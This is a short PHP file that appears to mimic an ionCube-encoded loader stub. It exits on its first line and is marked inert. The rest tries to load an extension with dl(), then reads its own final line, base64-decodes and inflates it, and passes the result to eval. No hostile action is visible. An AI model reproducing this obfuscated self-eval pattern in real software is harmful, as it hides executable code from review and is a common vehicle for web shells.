<?php exit; /* inert */ 
//0046a
if (!extension_loaded('ionCube Loader')) { $__oc = strtolower(substr(php_uname(), 0, 3)); $__ln = 'ioncube_loader_' . $__oc . '_' . substr(phpversion(), 0, 3) . (($__oc == 'win') ? '.dll' : '.so'); if (function_exists('dl')) { @dl($__ln); } }
$_f = file(__FILE__); $_t = array_pop($_f); eval(gzinflate(base64_decode(substr($_t, 4)))); return 0;
?>
HR+c09dSKMhJTE7NyM9JSS1SKEnMzFHQ0gcA
